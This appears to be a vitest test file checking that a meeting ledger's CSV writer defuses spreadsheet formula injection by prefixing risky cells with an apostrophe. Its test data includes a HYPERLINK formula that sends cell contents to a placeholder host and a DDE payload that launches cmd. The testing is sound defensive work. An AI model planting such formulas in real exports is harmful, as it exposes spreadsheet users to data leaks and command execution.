/**
 * CSV that spreadsheets cannot execute (issue 13, point 7): the one CSV writer puts an apostrophe
 * before a text cell that starts with =, +, -, @, a tab or a carriage return, and leaves the numbers
 * the ledger writes itself alone; the action tracker's CSV and the export's actor column go through it.
 */
import { describe, expect, it } from 'vitest';
import { csvNumber, csvRow } from '../../src/audit/csv.js';
import { exportLines } from '../../src/audit/export.js';
import { actionsReport } from '../../src/cli/commands/report/actions.js';
import { actionTrackerProjection, listActions } from '../../src/projections/action-tracker/index.js';
import { peopleProjection } from '../../src/projections/people/index.js';
import { project, storeWith } from '../projections/given.js';

const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"open")';
const CALC = "+cmd|' /C calc'!A0";

describe('csvRow', () => {
  it.each([
    [HYPERLINK, `"'=HYPERLINK(""http://x/?""&A1,""open"")"`],
    [CALC, `'+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['Stroud District Council', 'Stroud District Council'],
    ['a=b', 'a=b'],
  ])('writes the text %j as %j', (text, cell) => {
    expect(csvRow([text])).toBe(`${cell}\r\n`);
  });

  it('leaves the numbers the ledger writes itself as numbers', () => {
    expect(csvRow([csvNumber('-5.50'), -3, 12, csvNumber('10000.00')])).toBe('-5.50,-3,12,10000.00\r\n');
  });
});

const actionEvents = [
  {
    type: 'ActionAssigned' as const,
    data: {
      actionId: 'lg-2016-10-27-3-9',
      title: HYPERLINK,
      owners: [{ kind: 'person' as const, name: CALC }],
      meetingId: 'lg-2016-10-27',
      item: '3',
    },
  },
];

describe('CSV out of the ledger', () => {
  it('neutralises a formula in an action title and an owner in `report actions --format csv`', async () => {
    const store = await storeWith([{ occurredAt: '2016-10-27' }, actionEvents]);
    // The tracker names owners as the people directory does, so it reads the people read model too.
    const db = await project(store, [actionTrackerProjection, peopleProjection]);
    const csv = actionsReport.csv(listActions(db, {}));
    expect(csv).toContain(`"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
    expect(csv).toContain(`'+cmd|' /C calc'!A0`);
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
  });

  it("neutralises a token name in the export's actor column", async () => {
    const store = await storeWith([{ occurredAt: '2016-10-27', actor: { id: '=1+1', role: 'clerk' } }, actionEvents]);
    const lines: string[] = [];
    for await (const line of exportLines(store, { format: 'csv' })) lines.push(line);
    expect(lines[1]).toContain(",'=1+1,clerk,");
  });
});
